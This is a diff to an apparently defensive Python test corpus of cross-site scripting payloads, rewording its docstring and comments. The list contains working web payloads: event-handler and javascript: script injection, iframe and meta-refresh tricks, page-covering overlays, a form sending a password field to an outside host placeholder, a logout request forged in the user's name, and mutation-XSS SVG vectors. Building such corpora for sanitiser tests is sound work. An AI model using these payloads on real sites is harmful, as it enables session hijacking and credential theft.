@@ -1,7 +1,7 @@
-"""Texts that try to run a script, send something away, or act in somebody's name: one line of attack each.
+"""XSS corpus: texts that try to run a script, exfiltrate data or act in a person's name, one attack each.
 
-RAN stands for a script that springs the trap of its vector, ELSEWHERE for the address of another server. Every text
-also has a word by which a test sees that it was drawn, see `armed`.
+RAN stands for a script that triggers the trap of its vector, ELSEWHERE for the address of another server. Every text
+also has a marker word that shows that it was rendered, see `armed`.
 """
 
 from __future__ import annotations
@@ -58,7 +58,7 @@ HTML = [
     "<link rel=stylesheet href=x onerror=RAN>",
     "<style onload=RAN></style>",
     "<xss onclick=RAN tabindex=1 onfocus=RAN autofocus>mine</xss>",
-    # Documents in the document
+    # Embedded documents
     "<iframe srcdoc='<script>RAN</script>'></iframe>",
     "<iframe src='javascript:RAN'></iframe>",
     "<iframe src='ELSEWHERE/frame'></iframe>",
@@ -70,7 +70,7 @@ HTML = [
     "<portal src='ELSEWHERE/portal'></portal>",
     "<gradio-app src='ELSEWHERE/'></gradio-app>",
     "<gradio-lite>RAN</gradio-lite>",
-    # What governs the whole page
+    # Elements that affect the whole page
     "<meta http-equiv=refresh content='0;url=javascript:RAN'>",
     "<meta http-equiv=refresh content='0;url=ELSEWHERE/refreshed'>",
     "<meta http-equiv=content-security-policy content='script-src * unsafe-inline'>",
@@ -84,7 +84,7 @@ HTML = [
     "<div style='position: fixed; inset: 0; z-index: 99999; background: red'>over all</div>",
     "<a href='ELSEWHERE/over' style='position: fixed; inset: 0; z-index: 99999'>over all</a>",
     "<dialog open style='position: fixed; inset: 0; z-index: 99999'>over all</dialog>",
-    # Acting in the person's name, or in the place of the page's own parts
+    # Actions in the person's name, or imitations of the page's own parts
     "<form action='javascript:RAN'><button>send</button></form>",
     "<form action='ELSEWHERE/form'><input name=password type=password><button>send</button></form>",
     "<form action=/logout method=post><button>send</button></form>",
@@ -99,7 +99,7 @@ HTML = [
     "<a href='ELSEWHERE/pinged' ping='ELSEWHERE/ping'>pings</a>",
     "<label for=prompt accesskey=x>labelled</label>",
     "<div class='cf-notice' role=alert>Your session is over</div>",
-    # What the parser changes on its way
+    # Texts that the parser changes (mutation XSS)
     "<svg><script>RAN</script></svg>",
     "<svg><script href='data:text/javascript,RAN'/></svg>",
     "<svg><style><img src=x onerror=RAN></style></svg>",
@@ -256,9 +256,9 @@ ALL = [*HTML, *LINKS, *PICTURES, *MARKDOWN, *LATEX]
 
 
 def armed(text: str, number: int, elsewhere: str) -> str:
-    """The text with its trap set, and with a word before it and behind it that is seen wherever it is drawn.
+    """Return the text with its trap, and with a visible marker word before and after it.
 
-    What is behind stands apart, because a text may leave a comment or an element open.
+    The second marker is a separate block, because a text may leave a comment or an element open.
     """
     live = text.replace("RAN", RAN).replace("NUMBER", str(number)).replace("ELSEWHERE", elsewhere)
     return f"begin{number}\n\n{live}\n\nend{number}"
